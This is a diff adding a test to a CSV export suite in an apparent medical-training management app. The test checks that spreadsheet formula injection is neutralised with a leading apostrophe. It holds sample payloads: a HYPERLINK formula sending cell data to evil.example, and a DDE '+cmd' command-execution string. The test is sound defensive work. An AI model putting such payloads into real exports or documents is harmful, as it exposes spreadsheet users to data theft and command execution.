@@ -135,4 +135,27 @@ describe('CSV exports', () => {
     expect(new Set(nationalRows.map((r) => r.locality)).size).toBe(13);
     await expect(as(users.dean).export.measures({ period: '2024-26' })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
   });
+
+  it('neutralises formulas a locality user typed into an offer or an import put into a trainee', async () => {
+    const lead = as(users.lead);
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")';
+    await lead.offer.create({
+      localityCode: 'NE',
+      offer: { code: 'NE2', title, provider: '@SUM(1+1)', scope: 'NE', tier: 2, stages: ['core'] },
+    });
+    await t.db
+      .updateTable('trainees')
+      .set({ surname: "+cmd|' /C calc'!A0" })
+      .where('gmc_number', '=', '2000001')
+      .execute();
+    try {
+      const offer = rowsOf((await lead.export.offers({ localityCode: 'NE' })).csv).find((r) => r.code === 'NE2');
+      expect(offer).toMatchObject({ title: `'${title}`, provider: "'@SUM(1+1)", tier: '2' });
+      const trainees = rowsOf((await lead.export.trainees({ localityCode: 'NE', sort: 'gmcNumber' })).csv);
+      expect(trainees[1]).toMatchObject({ gmc_number: '2000001', surname: "'+cmd|' /C calc'!A0" });
+    } finally {
+      await lead.offer.delete({ localityCode: 'NE', code: 'NE2' });
+      await t.db.updateTable('trainees').set({ surname: 'S2000001' }).where('gmc_number', '=', '2000001').execute();
+    }
+  });
 });
